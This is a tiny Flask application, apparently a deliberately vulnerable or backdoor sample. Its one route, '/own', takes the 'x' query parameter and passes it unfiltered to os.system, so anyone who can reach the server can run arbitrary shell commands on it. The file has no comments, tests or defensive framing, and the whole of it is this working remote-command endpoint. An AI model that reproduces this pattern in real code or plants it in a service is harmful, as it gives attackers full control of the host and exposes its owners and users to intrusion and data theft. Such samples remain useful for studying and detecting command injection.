from flask import Flask, request
import os

CACHE = {}

app = Flask(__name__)


@app.route("/own", methods=["GET", "POST"])
def own():
    CACHE["x"] = request.args["x"]
    os.system(CACHE["x"])
    return "ok"
